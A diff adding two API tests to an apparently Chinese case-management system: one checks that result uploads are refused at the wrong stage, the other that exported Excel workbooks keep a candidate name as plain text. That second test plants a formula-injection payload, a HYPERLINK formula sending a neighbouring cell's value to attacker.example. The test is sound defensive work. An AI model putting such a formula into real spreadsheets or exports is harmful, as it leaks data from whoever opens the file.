@@ -195,3 +195,37 @@ def test_an_officer_exports_the_inbox(api, people):
     answer = api.get("/api/v1/inbox.xlsx", headers=officer)
     assert answer.status_code == 200 and _read(answer.content)[0][:3] == ["待办编号", "环节", "案件"]
     assert api.get("/api/v1/inbox.xlsx", headers=people.make("enterprise")).status_code == 403
+
+
+def test_who_and_when_are_checked_before_an_uploaded_sheet_is_read(api, people):
+    enterprise, institution_id = enterprise_of(api, people)
+    plan = _import(api, institution_id, enterprise, _sheet([_candidate_row(0)])).json()
+    not_a_workbook = b"PK\x03\x04 not really a workbook"
+    early = api.post(f"/api/v1/plans/{plan['id']}/results/import", headers=enterprise,
+                     files={"file": ("成绩.xlsx", not_a_workbook)})
+    assert early.status_code == 409 and "results are taken after the evaluation" in early.json()["detail"]
+    with db(api) as session:
+        from models.cases import Institution
+
+        session.get(Institution, institution_id).status = "cancelled"
+    cancelled = _import(api, institution_id, enterprise, not_a_workbook)
+    assert cancelled.status_code == 409 and "取消备案" in cancelled.json()["detail"]
+
+
+def test_exported_workbooks_carry_a_formula_looking_name_as_text(api, people):
+    enterprise, institution_id = enterprise_of(api, people)
+    hostile = '=HYPERLINK("http://attacker.example/?"&B2,"点击查看")'
+    body = plan_body(START)
+    body["candidates"][0]["name"] = hostile  # accepted as a name: it is text, and stays text in every export
+    plan = api.post(f"/api/v1/institutions/{institution_id}/plans", json=body, headers=enterprise).json()
+    assert plan["candidates"][0]["name"] == hostile
+    with db(api) as session:
+        session.get(EvaluationPlan, plan["id"]).status = "awaiting_results"
+    officer = people.make("officer", jurisdiction="440100")
+    for path, who in ((f"/api/v1/plans/{plan['id']}/roster.xlsx", officer),
+                      (f"/api/v1/plans/{plan['id']}/results.xlsx", officer),
+                      (f"/api/v1/plans/{plan['id']}/results-template.xlsx", enterprise)):
+        answer = api.get(path, headers=who)
+        assert answer.status_code == 200, path
+        cell = load_workbook(io.BytesIO(answer.content)).active["A2"]
+        assert (cell.value, cell.data_type) == (hostile, "s"), path
